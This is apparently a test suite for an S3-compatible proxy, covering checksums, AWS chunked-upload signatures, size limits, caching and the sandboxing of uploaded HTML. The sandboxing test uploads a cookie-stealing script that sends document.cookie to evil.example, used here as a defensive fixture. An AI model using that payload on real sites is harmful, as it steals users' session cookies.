        expect(await env.s3.exists("up", "plain/small-answer.bin")).toBe(false);
      },
      T,
    );

    test(
      "hex SHA-256: verified on the way and forwarded as the signed payload hash",
      async () => {
        const body = bytesOf(70_000, 2);
        const a = await answerOf(await signedFetch(env, { method: "PUT", path: "/up/plain/sha.bin", body, payloadHash: sha256(body) }));
        expect(a.status).toBe(200);
        expect(sha256((await stored("plain/sha.bin"))!)).toBe(sha256(body));
        const up = env.s3.requests.findLast((e) => e.method === "PUT" && e.pathname === "/up/plain/sha.bin")!;
        expect(up.headers["x-amz-content-sha256"]).toBe(sha256(body));
      },
      T,
    );

    test(
      "a hex SHA-256 that is not the body's: 400 XAmzContentSHA256Mismatch, the upstream request aborted, no object",
      async () => {
        const body = bytesOf(200_000, 3);
        const a = await answerOf(await signedFetch(env, { method: "PUT", path: "/up/bad/sha.bin", body, payloadHash: sha256(bytesOf(10)) }));
        expect({ status: a.status, code: a.code }).toEqual({ status: 400, code: "XAmzContentSHA256Mismatch" });
        await abortedUpstream("bad/sha.bin");
      },
      T,
    );

    test(
      "a Content-MD5 or x-amz-checksum-crc32 header that is not the body's: 400 BadDigest, aborted, no object",
      async () => {
        const body = bytesOf(100_000, 4);
        const wrong = bytesOf(100_000, 5);
        let a = await answerOf(await signedFetch(env, { method: "PUT", path: "/up/bad/md5.bin", body, headers: { "content-md5": md5(wrong) } }));
        expect({ status: a.status, code: a.code }).toEqual({ status: 400, code: "BadDigest" });
        await abortedUpstream("bad/md5.bin");
        a = await answerOf(await signedFetch(env, { method: "PUT", path: "/up/bad/crc.bin", body, headers: { "x-amz-checksum-crc32": crc32(wrong) } }));
        expect({ status: a.status, code: a.code }).toEqual({ status: 400, code: "BadDigest" });
        await abortedUpstream("bad/crc.bin");
      },
      T,
    );

    test(
      "a small body (up to 64 KiB) is read whole and checked before anything is sent: a wrong Content-MD5 → BadDigest, the upstream never asked",
      async () => {
        const body = bytesOf(60_000, 8);
        env.mark();
        const a = await answerOf(await signedFetch(env, { method: "PUT", path: "/up/bad/small-md5.bin", body, headers: { "content-md5": md5(bytesOf(60_000, 9)) } }));
        expect({ status: a.status, code: a.code }).toEqual({ status: 400, code: "BadDigest" });
        expect(env.upstreamCalls()).toEqual([]);
        expect(await env.s3.exists("up", "bad/small-md5.bin")).toBe(false);
      },
      T,
    );

    test(
      "a small body is replayable: a PUT the upstream answers 503 SlowDown once is retried and stored",
      async () => {
        const body = bytesOf(2000, 10);
        env.s3.faults.set("/up/plain/retried.bin", { kind: "slowdown", times: 1, method: "PUT" });
        try {
          env.mark();
          const r = await signedFetch(env, { method: "PUT", path: "/up/plain/retried.bin", body });
          expect(r.status).toBe(200);
          expect(env.upstreamCalls().filter((c) => c.method === "PUT").map((c) => c.status)).toEqual([503, 200]);
          expect(sha256((await stored("plain/retried.bin"))!)).toBe(sha256(body));
        } finally {
          env.s3.faults.clear();
        }
      },
      T,
    );

    test(
      "a body shorter than its Content-Length (the client stops sending): the upstream request is aborted, nothing stored",
      async () => {
        const key = "bad/short.bin";
        const h = await signedHead("PUT", `/up/${key}`, { "content-length": "1000000" });
        const piece = bytesOf(300_000, 6);
        await rawRequest(env.port, lines(`PUT /up/${key} HTTP/1.1`, h), [piece], { cut: true });
        await cutBeforeStored(key);
      },
      T,
    );

    test(
      "Expect: 100-continue: the body follows the interim answer and is stored",
      async () => {
        const body = bytesOf(50_000, 7);
        const h = await signedHead("PUT", "/up/plain/continue.bin", { "content-length": String(body.byteLength), expect: "100-continue" });
        const r = await rawRequest(env.port, lines("PUT /up/plain/continue.bin HTTP/1.1", h), [body], { waitContinue: true });
        expect(r.interim.length).toBe(1);
        expect(r.interim[0]).toStartWith("HTTP/1.1 100");
        expect(r.status).toBe(200);
        expect(sha256((await stored("plain/continue.bin"))!)).toBe(sha256(body));
      },
      T,
    );
  });

  describe("AWS's published chunked-upload examples, replayed through the proxy (the S3 front's clock at 2013-05-24)", () => {
    const A = (n: number) => new Uint8Array(n).fill(0x61);
    const PAYLOAD = A(66560);
    const DATE = "20130524T000000Z";
    const KEY = deriveSigningKey("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "20130524", "us-east-1", "s3");
    const ctx = (seed: string) => ({ signingKey: KEY, amzDate: DATE, scope: "20130524/us-east-1/s3/aws4_request", seedSignature: seed });
    const auth = (signed: string, sig: string) =>
      `AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20130524/us-east-1/s3/aws4_request,SignedHeaders=${signed},Signature=${sig}`;
    const at2013 = async <T>(fn: () => Promise<T>): Promise<T> => {
      const api = env.app.runtime.s3Api!;
      api.now = () => Date.UTC(2013, 4, 24, 0, 0, 30);
      try {
        return await fn();
      } finally {
        api.now = Date.now;
      }
    };

    test(
      "STREAMING-AWS4-HMAC-SHA256-PAYLOAD: the documented chunk signatures, the 66560 bytes stored (not the framing)",
      async () => {
        const seed = "4f232c4386841ef735655705268965c44a0e4690baa4adea153f7db9fa80a0a9";
        const built = buildAwsChunkedBody(PAYLOAD, { signing: ctx(seed), chunkSize: 65536 });
        expect(built.chunkSignatures).toEqual([
          "ad80c730a21e5b8d04586a2213dd63b9a0e99e0e2307b0ade35a65485a288648",
          "0055627c9e194cb4542bae2aa5492e3c1575bbb81b612b7d234b86a503ef5497",
          "b6c6ea8a5354eaf15b3cb7646744f4275b71ea724fed81ceb9323e279d449df9",
        ]);
        expect(built.body.byteLength).toBe(66824);
        const head = lines("PUT /examplebucket/chunkObject.txt HTTP/1.1", {
          host: "s3.amazonaws.com",
          "x-amz-date": DATE,
          "x-amz-storage-class": "REDUCED_REDUNDANCY",
          authorization: auth("content-encoding;content-length;host;x-amz-content-sha256;x-amz-date;x-amz-decoded-content-length;x-amz-storage-class", seed),
          "x-amz-content-sha256": "STREAMING-AWS4-HMAC-SHA256-PAYLOAD",
          "content-encoding": "aws-chunked",
          "x-amz-decoded-content-length": "66560",
          "content-length": "66824",
        });
        const r = await at2013(() => rawRequest(env.port, head, [built.body]));
        expect({ status: r.status, body: r.body }).toEqual({ status: 200, body: "" });
        expect(Buffer.from((await stored("chunkObject.txt"))!).equals(Buffer.from(PAYLOAD))).toBe(true);
        const up = env.s3.requests.findLast((e) => e.method === "PUT" && e.pathname === "/up/chunkObject.txt")!;
        expect(up.headers["content-length"]).toBe("66560");
        expect(up.headers["content-encoding"]).toBeUndefined();
      },
      T,
    );

    test(
      "STREAMING-AWS4-HMAC-SHA256-PAYLOAD-TRAILER: documented chunk and trailer signatures; the CRC32C goes upstream as a trailer",
      async () => {
        const seed = "106e2a8a18243abcf37539882f36619c00e2dfc72633413f02d3b74544bfeb8e";
        const built = buildAwsChunkedBody(PAYLOAD, { signing: ctx(seed), chunkSize: 65536, trailers: [["x-amz-checksum-crc32c", "sOO8/Q=="]] });
        expect(built.chunkSignatures).toEqual([
          "b474d8862b1487a5145d686f57f013e54db672cee1c953b3010fb58501ef5aa2",
          "1c1344b170168f8e65b41376b44b20fe354e373826ccbbe2c1d40a8cae51e5c7",
          "2ca2aba2005185cf7159c6277faf83795951dd77a3a99e6e65d5c9f85863f992",
        ]);
        expect(built.trailerSignature).toBe("d81f82fc3505edab99d459891051a732e8730629a2e4a59689829ca17fe2e435");
        const head = lines("PUT /examplebucket/chunkObjectTrailer.txt HTTP/1.1", {
          host: "s3.amazonaws.com",
          "x-amz-date": DATE,
          "x-amz-storage-class": "REDUCED_REDUNDANCY",
          authorization: auth("content-encoding;host;x-amz-content-sha256;x-amz-date;x-amz-decoded-content-length;x-amz-storage-class;x-amz-trailer", seed),
          "x-amz-content-sha256": "STREAMING-AWS4-HMAC-SHA256-PAYLOAD-TRAILER",
          "content-encoding": "aws-chunked",
          "x-amz-decoded-content-length": "66560",
          "x-amz-trailer": "x-amz-checksum-crc32c",
          "content-length": String(built.body.byteLength),
        });
        // The documented seed signs the path /examplebucket/chunkObject.txt: replay it there.
        head[0] = "PUT /examplebucket/chunkObject.txt HTTP/1.1";
        await env.s3.remove("up", "chunkObject.txt");
        const r = await at2013(() => rawRequest(env.port, head, [built.body]));
        expect({ status: r.status, body: r.body }).toEqual({ status: 200, body: "" });
        expect(Buffer.from((await stored("chunkObject.txt"))!).equals(Buffer.from(PAYLOAD))).toBe(true);
        const up = env.s3.requests.findLast((e) => e.method === "PUT" && e.pathname === "/up/chunkObject.txt")!;
        expect({
          mode: up.headers["x-amz-content-sha256"],
          trailer: up.headers["x-amz-trailer"],
          decoded: up.headers["x-amz-decoded-content-length"],
          length: Number(up.headers["content-length"]) > 66560,
          body: up.body,
        }).toEqual({ mode: "STREAMING-UNSIGNED-PAYLOAD-TRAILER", trailer: "x-amz-checksum-crc32c", decoded: "66560", length: true, body: "complete" });
      },
      T,
    );

    test(
      "the documented request with one byte of chunk 2 changed: 403 SignatureDoesNotMatch, aborted upstream, no object",
      async () => {
        await env.s3.remove("up", "chunkObject.txt").catch(() => {});
        const seed = "4f232c4386841ef735655705268965c44a0e4690baa4adea153f7db9fa80a0a9";
        const body = buildAwsChunkedBody(PAYLOAD, { signing: ctx(seed), chunkSize: 65536 }).body.slice();
        body[body.byteLength - 200] = 0x62; // inside chunk 2's data ('a' → 'b')
        const head = lines("PUT /examplebucket/chunkObject.txt HTTP/1.1", {
          host: "s3.amazonaws.com",
          "x-amz-date": DATE,
          "x-amz-storage-class": "REDUCED_REDUNDANCY",
          authorization: auth("content-encoding;content-length;host;x-amz-content-sha256;x-amz-date;x-amz-decoded-content-length;x-amz-storage-class", seed),
          "x-amz-content-sha256": "STREAMING-AWS4-HMAC-SHA256-PAYLOAD",
          "content-encoding": "aws-chunked",
          "x-amz-decoded-content-length": "66560",
          "content-length": "66824",
        });
        env.s3.resetLog();
        const r = await at2013(() => rawRequest(env.port, head, [body]));
        expect(r.status).toBe(403);
        expect(r.body).toContain("<Code>SignatureDoesNotMatch</Code>");
        await abortedUpstream("chunkObject.txt");
      },
      T,
    );
  });

  describe("aws-chunked bodies signed now", () => {
    const payload = bytesOf(300_000, 11);

    test(
      "STREAMING-UNSIGNED-PAYLOAD-TRAILER without Content-Length (Transfer-Encoding: chunked, as the SDKs stream): stored byte-exact; a chunk under 8 KiB but the last is S3's 403 InvalidChunkSizeError",
      async () => {
        const small = chunkedRequest({ mode: "STREAMING-UNSIGNED-PAYLOAD-TRAILER", host: host(), path: "/up/chunked/small.bin", payload, chunkSize: 1000, trailer: ["x-amz-checksum-crc32", crc32(payload)], contentLength: false });
        const refused = await fetch(`${env.endpoint}/up/chunked/small.bin`, { method: "PUT", headers: small.headers, body: new Blob([small.body]).stream(), duplex: "half" } as RequestInit);
        expect([refused.status, /<Code>(\w+)/.exec(await refused.text())?.[1]]).toEqual([403, "InvalidChunkSizeError"]);
        expect(await env.s3.exists("up", "chunked/small.bin")).toBe(false);
        const req = chunkedRequest({ mode: "STREAMING-UNSIGNED-PAYLOAD-TRAILER", host: host(), path: "/up/chunked/unsigned.bin", payload, chunkSize: 8192, trailer: ["x-amz-checksum-crc32", crc32(payload)], contentLength: false });
        const res = await fetch(`${env.endpoint}/up/chunked/unsigned.bin`, { method: "PUT", headers: req.headers, body: new Blob([req.body]).stream(), duplex: "half" } as RequestInit);
        expect(res.status).toBe(200);
        expect(sha256((await stored("chunked/unsigned.bin"))!)).toBe(sha256(payload));
        const up = env.s3.requests.findLast((e) => e.method === "PUT" && e.pathname === "/up/chunked/unsigned.bin")!;
        // An exact length toward the upstream, and the client's CRC32 as its trailer.
        expect(up.headers["transfer-encoding"]).toBeUndefined();
        expect(up.headers["x-amz-trailer"]).toBe("x-amz-checksum-crc32");
        expect(Number(up.headers["content-length"])).toBeGreaterThan(payload.byteLength);
      },
      T,
    );

    test(
      "a wrong CRC32 trailer: 400 BadDigest, aborted upstream, no object",
      async () => {
        const req = chunkedRequest({ mode: "STREAMING-UNSIGNED-PAYLOAD-TRAILER", host: host(), path: "/up/bad/trailer.bin", payload, chunkSize: 65536, trailer: ["x-amz-checksum-crc32", crc32(bytesOf(10))] });
        const r = await rawRequest(env.port, lines("PUT /up/bad/trailer.bin HTTP/1.1", req.headers), [req.body]);
        expect(r.status).toBe(400);
        expect(r.body).toContain("<Code>BadDigest</Code>");
        await abortedUpstream("bad/trailer.bin");
      },
      T,
    );

    test(
      "a forged chunk signature (chunk 3 of 5): 403 SignatureDoesNotMatch, aborted upstream, no object",
      async () => {
        const req = chunkedRequest({ mode: "STREAMING-AWS4-HMAC-SHA256-PAYLOAD", host: host(), path: "/up/bad/forged.bin", payload, chunkSize: 65536 });
        const sig = req.chunkSignatures[2]!;
        const text = Buffer.from(req.body).toString("latin1").replace(sig, sig.slice(0, 63) + (sig[63] === "0" ? "1" : "0"));
        const r = await rawRequest(env.port, lines("PUT /up/bad/forged.bin HTTP/1.1", req.headers), [Buffer.from(text, "latin1")]);
        expect(r.status).toBe(403);
        expect(r.body).toContain("<Code>SignatureDoesNotMatch</Code>");
        await abortedUpstream("bad/forged.bin");
      },
      T,
    );

    test(
      "a body that ends before x-amz-decoded-content-length: 400 IncompleteBody, aborted upstream, no object",
      async () => {
        const req = chunkedRequest({ mode: "STREAMING-AWS4-HMAC-SHA256-PAYLOAD-TRAILER", host: host(), path: "/up/bad/short-chunked.bin", payload, chunkSize: 65536, trailer: ["x-amz-checksum-crc32", crc32(payload)], decodedLength: payload.byteLength + 1000 });
        const r = await rawRequest(env.port, lines("PUT /up/bad/short-chunked.bin HTTP/1.1", req.headers), [req.body]);
        expect(r.status).toBe(400);
        expect(r.body).toContain("<Code>IncompleteBody</Code>");
        await abortedUpstream("bad/short-chunked.bin");
      },
      T,
    );
  });

  describe("an empty payload (x-amz-decoded-content-length: 0) is checked whole before anything goes upstream", () => {
    // With no byte to hold back, Content-Length: 0 made the request head alone a complete PUT: the
    // client got an error and the old object was replaced by an empty one.
    const before = new TextEncoder().encode("precious data");
    let sentinels = 0;
    const unchanged = async (key: string) => {
      // A PUT the proxy sent before answering reached the fixture before one sent after the answer
      // completes; once that one is stored, every PUT of `key` has arrived: wait for them to settle.
      const sentinel = `/up/zero/sentinel-${++sentinels}`;
      expect((await signedFetch(env, { method: "PUT", path: sentinel, body: bytesOf(10) })).status).toBe(200);
      const puts = () => env.s3.requests.filter((e) => !e.admin && e.method === "PUT" && e.pathname === `/up/${key}`);
      await waitFor(() => env.s3.requests.some((e) => e.pathname === sentinel && e.body === "complete") && puts().every((e) => e.body === "complete" || e.body === "aborted" || e.body === "rejected"), {
        timeoutMs: 10_000,
        message: () => `upstream ${JSON.stringify(puts().map((e) => e.body))}`,
      });
      expect(puts().map((e) => e.body)).toEqual([]);
      expect(new TextDecoder().decode(await env.s3.read("up", key))).toBe("precious data");
    };
    test(
      "a forged final-chunk signature: 403, the object unchanged",
      async () => {
        await env.s3.put("up", "zero/forged.bin", before);
        env.mark();
        const req = chunkedRequest({ mode: "STREAMING-AWS4-HMAC-SHA256-PAYLOAD", host: host(), path: "/up/zero/forged.bin", payload: new Uint8Array(0), chunkSize: 65536 });
        const sig = req.chunkSignatures.at(-1)!;
        const text = Buffer.from(req.body).toString("latin1").replace(sig, sig.slice(0, 63) + (sig[63] === "0" ? "1" : "0"));
        const r = await rawRequest(env.port, lines("PUT /up/zero/forged.bin HTTP/1.1", req.headers), [Buffer.from(text, "latin1")]);
        expect(r.status).toBe(403);
        expect(r.body).toContain("<Code>SignatureDoesNotMatch</Code>");
        await unchanged("zero/forged.bin");
      },
      T,
    );
    test.each(["STREAMING-AWS4-HMAC-SHA256-PAYLOAD", "STREAMING-UNSIGNED-PAYLOAD-TRAILER"] as const)(
      "%s declaring 0 bytes and sending 20,000: 400, the object unchanged",
      async (mode) => {
        const key = `zero/longer-${mode.length}.bin`;
        await env.s3.put("up", key, before);
        env.mark();
        const req = chunkedRequest({ mode, host: host(), path: `/up/${key}`, payload: new Uint8Array(20000).fill(65), chunkSize: 65536, decodedLength: 0 });
        const r = await rawRequest(env.port, lines(`PUT /up/${key} HTTP/1.1`, req.headers), [req.body]);
        expect(r.status).toBeGreaterThanOrEqual(400);
        expect(r.status).toBeLessThan(500);
        await unchanged(key);
      },
      T,
    );
    test(
      "a good empty aws-chunked upload stores an empty object",
      async () => {
        await env.s3.put("up", "zero/good.bin", before);
        const req = chunkedRequest({ mode: "STREAMING-AWS4-HMAC-SHA256-PAYLOAD", host: host(), path: "/up/zero/good.bin", payload: new Uint8Array(0), chunkSize: 65536 });
        const r = await rawRequest(env.port, lines("PUT /up/zero/good.bin HTTP/1.1", req.headers), [req.body]);
        expect(r.status).toBe(200);
        expect(await env.s3.exists("up", "zero/good.bin")).toBe(true);
        expect((await env.s3.read("up", "zero/good.bin"))?.byteLength).toBe(0);
      },
      T,
    );
  });

  describe("limits, answered from the headers before the upstream is asked", () => {
    test(
      "no Content-Length on a plain body, or no x-amz-decoded-content-length on an aws-chunked one: 411 MissingContentLength",
      async () => {
        env.mark();
        const te = await signedHead("PUT", "/up/limits/chunked.bin", { "transfer-encoding": "chunked" });
        const plain = await rawRequest(env.port, lines("PUT /up/limits/chunked.bin HTTP/1.1", te), [Buffer.from("3e8\r\n"), bytesOf(1000), Buffer.from("\r\n0\r\n\r\n")]);
        expect(plain.status).toBe(411);
        expect(plain.body).toContain("<Code>MissingContentLength</Code>");
        const req = chunkedRequest({ mode: "STREAMING-UNSIGNED-PAYLOAD-TRAILER", host: host(), path: "/up/limits/nodecoded.bin", payload: bytesOf(1000), chunkSize: 8192, trailer: ["x-amz-checksum-crc32", crc32(bytesOf(1000))], decodedLength: null });
        const r = await rawRequest(env.port, lines("PUT /up/limits/nodecoded.bin HTTP/1.1", req.headers), [req.body]);
        expect(r.status).toBe(411);
        expect(r.body).toContain("<Code>MissingContentLength</Code>");
        // an aws-chunked upload with neither Content-Length nor Transfer-Encoding has no body at all
        const bare = chunkedRequest({ mode: "STREAMING-UNSIGNED-PAYLOAD-TRAILER", host: host(), path: "/up/limits/nobody.bin", payload: bytesOf(1000), chunkSize: 8192, trailer: ["x-amz-checksum-crc32", crc32(bytesOf(1000))], contentLength: false });
        const none = await rawRequest(env.port, lines("PUT /up/limits/nobody.bin HTTP/1.1", bare.headers), []);
        expect([none.status, /<Code>(\w+)/.exec(none.body)?.[1]]).toEqual([411, "MissingContentLength"]);
        expect(env.upstreamCalls()).toEqual([]);
      },
      T,
    );

    test(
      "a single PUT above 5 GiB (Content-Length or x-amz-decoded-content-length): 400 EntityTooLarge at once",
      async () => {
        env.mark();
        const big = String(5 * 1024 ** 3 + 1);
        let r = await rawRequest(env.port, lines("PUT /up/limits/huge.bin HTTP/1.1", await signedHead("PUT", "/up/limits/huge.bin", { "content-length": big })));
        expect(r.status).toBe(400);
        expect(r.body).toContain("<Code>EntityTooLarge</Code>");
        expect(r.body).toContain(`<ProposedSize>${big}</ProposedSize>`);
        // past 5 GiB + 64 MiB, Bun's own body cap answered a bare 413 on the bun engine
        // (and past 2^53, up to the 2^59 - 1 Bun's parser holds: Bun's own cap answered a bare 413 on the bun engine)
        for (const length of [String(5 * 1024 ** 3 + 64 * 1024 ** 2 + 1), "6000000000000", String(Number.MAX_SAFE_INTEGER), "9007199254740992", "99999999999999999", "576460752303423487"]) {
          r = await rawRequest(env.port, lines("PUT /up/limits/huge.bin HTTP/1.1", await signedHead("PUT", "/up/limits/huge.bin", { "content-length": length })));
          expect([r.status, /<Code>(\w+)/.exec(r.body)?.[1], /<ProposedSize>(\d+)/.exec(r.body)?.[1]]).toEqual([400, "EntityTooLarge", length]);
        }
        const req = chunkedRequest({ mode: "STREAMING-UNSIGNED-PAYLOAD-TRAILER", host: host(), path: "/up/limits/huge2.bin", payload: bytesOf(10), chunkSize: 8192, trailer: ["x-amz-checksum-crc32", crc32(bytesOf(10))], decodedLength: 5 * 1024 ** 3 + 1 });
        r = await rawRequest(env.port, lines("PUT /up/limits/huge2.bin HTTP/1.1", req.headers), [req.body]);
        expect(r.status).toBe(400);
        expect(r.body).toContain("<Code>EntityTooLarge</Code>");
        expect(env.upstreamCalls()).toEqual([]);
      },
      T,
    );

    test(
      "a body sent with a write S3 takes none (DeleteObject, CopyObject, CreateMultipartUpload, AbortMultipartUpload): 400 UnexpectedContent, nothing done upstream",
      async () => {
        await env.s3.put("up", "limits/keep.txt", "kept");
        await env.s3.put("up", "limits/src.txt", "source");
        env.mark();
        const body = "x".repeat(100);
        const sent = [
          // (a signed payload hash that is not the body's: it was never compared, and the key was deleted)
          () => signedFetch(env, { method: "DELETE", path: "/up/limits/keep.txt", body, payloadHash: sha256(new TextEncoder().encode("other")) }),
          () => signedFetch(env, { method: "DELETE", path: "/up/limits/keep.txt", body }),
          () => signedFetch(env, { method: "PUT", path: "/up/limits/keep.txt", body, headers: { "x-amz-copy-source": "/up/limits/src.txt" } }),
          () => signedFetch(env, { method: "POST", path: "/up/limits/keep.txt", query: [["uploads", ""]], body }),
          () => signedFetch(env, { method: "DELETE", path: "/up/limits/keep.txt", query: [["uploadId", "some-upload"]], body }),
        ];
        for (const send of sent) {
          const a = await answerOf(await send());
          expect({ status: a.status, code: a.code }).toEqual({ status: 400, code: "UnexpectedContent" });
        }
        expect(env.upstreamCalls()).toEqual([]);
        expect(new TextDecoder().decode(await stored("limits/keep.txt"))).toBe("kept");
      },
      T,
    );

    test(
      "an empty chunked body (Transfer-Encoding: chunked, 0\\r\\n\\r\\n) on a write S3 takes no body is no body: DeleteObject, CopyObject, CreateMultipartUpload, AbortMultipartUpload are done; a chunked body with content stays UnexpectedContent, nothing done",
      async () => {
        const EMPTY = new TextEncoder().encode("0\r\n\r\n");
        const send = (method: string, path: string, query: Array<[string, string]>, body: Uint8Array, o: { payloadHash?: string; headers?: Record<string, string> } = {}) => {
          const signed = new S3Signer(WRITER, "us-east-1").signRequest({ method, host: host(), path, query, headers: o.headers, payloadHash: o.payloadHash ?? "UNSIGNED-PAYLOAD" });
          const target = signed.path + (signed.query ? `?${signed.query}` : "");
          return rawRequest(env.port, lines(`${method} ${target} HTTP/1.1`, { host: host(), ...o.headers, ...signed.headers, "transfer-encoding": "chunked" }), [body]);
        };
        const code = (r: { body: string }) => /<Code>(\w+)/.exec(r.body)?.[1];
        await env.s3.put("up", "limits/te-src.txt", "source");
        await env.s3.put("up", "limits/te-keep.txt", "kept");
        // with content: refused before anything is done, as a body of a declared length is
        env.mark();
        const full = await send("DELETE", "/up/limits/te-keep.txt", [], new TextEncoder().encode("5\r\nhello\r\n0\r\n\r\n"));
        expect([full.status, code(full)]).toEqual([400, "UnexpectedContent"]);
        // empty, but signed as a payload that is not the empty one
        const mis = await send("DELETE", "/up/limits/te-keep.txt", [], EMPTY, { payloadHash: sha256(new TextEncoder().encode("other")) });
        expect([mis.status, code(mis)]).toEqual([400, "XAmzContentSHA256Mismatch"]);
        expect(env.upstreamCalls()).toEqual([]);
        expect(await env.s3.exists("up", "limits/te-keep.txt")).toBe(true);

        const copy = await send("PUT", "/up/limits/te-copy.txt", [], EMPTY, { headers: { "x-amz-copy-source": "/up/limits/te-src.txt" } });
        expect([copy.status, copy.body]).toEqual([200, expect.stringContaining("<CopyObjectResult")]);
        expect(new TextDecoder().decode(await stored("limits/te-copy.txt"))).toBe("source");
        const del = await send("DELETE", "/up/limits/te-keep.txt", [], EMPTY, { payloadHash: sha256(new Uint8Array(0)) });
        expect(del.status).toBe(204);
        expect(await env.s3.exists("up", "limits/te-keep.txt")).toBe(false);
        const created = await send("POST", "/up/limits/te-mpu.bin", [["uploads", ""]], EMPTY);
        const uploadId = /<UploadId>([^<]+)<\/UploadId>/.exec(created.body)?.[1];
        expect([created.status, typeof uploadId]).toEqual([200, "string"]);
        const aborted = await send("DELETE", "/up/limits/te-mpu.bin", [["uploadId", uploadId!]], EMPTY);
        expect(aborted.status).toBe(204);
      },
      T,
    );

    test(
      "an aws-chunked body framed in chunks under 8 KiB, too long for its decoded length's framing: 400 InvalidRequest naming that cause too (it said the body held more bytes than declared), unread, nothing stored",
      async () => {
        env.mark();
        // 20 KB (read whole) in 100-byte signed chunks, each with ~87 bytes of framing; 200 KB
        // (streamed) in 16-byte unsigned ones, 6 bytes each: more than 8 KiB chunks' framing leaves room for
        const cases = [
          { size: 20_000, mode: "STREAMING-AWS4-HMAC-SHA256-PAYLOAD", chunkSize: 100 },
          { size: 200_000, mode: "STREAMING-UNSIGNED-PAYLOAD-TRAILER", chunkSize: 16 },
        ] as const;
        for (const { size, mode, chunkSize } of cases) {
          const key = `limits/tiny-chunks-${size}.bin`;
          const req = chunkedRequest({ mode, host: host(), path: `/up/${key}`, payload: bytesOf(size), chunkSize, trailer: mode === "STREAMING-UNSIGNED-PAYLOAD-TRAILER" ? ["x-amz-checksum-crc32", crc32(bytesOf(size))] : undefined });
          const r = await rawRequest(env.port, lines(`PUT /up/${key} HTTP/1.1`, req.headers), [req.body]);
          expect([r.status, /<Code>(\w+)/.exec(r.body)?.[1]]).toEqual([400, "InvalidRequest"]);
          expect(/<Message>([^<]*)/.exec(r.body)?.[1]).toContain("or chunks under 8192 bytes");
          expect(await stored(key)).toBeUndefined();
        }
        expect(env.upstreamCalls()).toEqual([]);
      },
      T,
    );

    test(
      "UploadPart number 10001 (and 0, ' 1', '+1', '1.0'): 400 InvalidArgument, the upstream never asked",
      async () => {
        env.mark();
        for (const n of ["10001", "0", " 1", "+1", "1.0", "1 "]) {
          const a = await answerOf(await signedFetch(env, { method: "PUT", path: "/up/limits/part.bin", query: [["partNumber", n], ["uploadId", "some-upload"]], body: bytesOf(100) }));
          expect({ status: a.status, code: a.code, message: a.message }).toEqual({ status: 400, code: "InvalidArgument", message: "Part number must be an integer between 1 and 10000, inclusive" });
        }
        expect(env.upstreamCalls()).toEqual([]);
      },
      T,
    );
  });

  describe("the cache", () => {
    test(
      "a PUT, a DELETE and a DeleteObjects each invalidate the cached key",
      async () => {
        const get = async () => (await signedFetch(env, { method: "GET", path: "/up/cached/k.txt" })).text();
        await signedFetch(env, { method: "PUT", path: "/up/cached/k.txt", body: "one" });
        expect(await get()).toBe("one");
        const hit = await signedFetch(env, { method: "GET", path: "/up/cached/k.txt" });
        expect(hit.headers.get("x-cache")).toBe("HIT");
        await hit.text();
        await signedFetch(env, { method: "PUT", path: "/up/cached/k.txt", body: "two" });
        expect(await get()).toBe("two");
        expect((await signedFetch(env, { method: "DELETE", path: "/up/cached/k.txt" })).status).toBe(204);
        expect((await signedFetch(env, { method: "GET", path: "/up/cached/k.txt" })).status).toBe(404);
        expect(await env.s3.exists("up", "cached/k.txt")).toBe(false);

        await signedFetch(env, { method: "PUT", path: "/up/cached/k.txt", body: "three" });
        expect(await get()).toBe("three");
        const xml = '<Delete><Object><Key>cached/k.txt</Key></Object></Delete>';
        const del = await signedFetch(env, { method: "POST", path: "/up", query: [["delete", ""]], body: xml, headers: { "content-md5": md5(new TextEncoder().encode(xml)) } });
        expect(await del.text()).toContain("<Deleted><Key>cached/k.txt</Key></Deleted>");
        expect((await signedFetch(env, { method: "GET", path: "/up/cached/k.txt" })).status).toBe(404);
      },
      T,
    );
  });

  describe("user content", () => {
    test(
      "an uploaded page is answered sandboxed on the S3 front: GetObject, a part of it (partNumber, read straight from the upstream), HeadObject, and through a read-only bucket that reads the same store",
      async () => {
        const page = "<!doctype html><script>fetch('https://evil.example/?'+document.cookie)</script>";
        expect((await signedFetch(env, { method: "PUT", path: "/up/site/page.html", body: page, headers: { "content-type": "text/html" } })).status).toBe(200);
        const headersOf = async (path: string, method = "GET", query?: Array<[string, string]>) => {
          const r = await signedFetch(env, { method, path, query });
          const body = await r.text();
          expect({ path, query, status: r.status, type: r.headers.get("content-type") }).toEqual({ path, query, status: method === "GET" && query ? 206 : 200, type: "text/html" });
          if (method === "GET") expect(body).toBe(page);
          return [r.headers.get("content-security-policy"), r.headers.get("x-content-type-options")];
        };
        const sandbox = ["sandbox", "nosniff"];
        expect(await headersOf("/up/site/page.html")).toEqual(sandbox);
        expect(await headersOf("/up/site/page.html", "HEAD")).toEqual(sandbox);
        expect(await headersOf("/up/site/page.html", "GET", [["partNumber", "1"]])).toEqual(sandbox);
        // bucket `ro` is read-only, on the store bucket `up` writes: what users upload is served through it too
        expect(await headersOf("/ro/site/page.html")).toEqual(sandbox);
        expect(await headersOf("/ro/site/page.html", "GET", [["partNumber", "1"]])).toEqual(sandbox);
      },
      T,
    );
  });
});
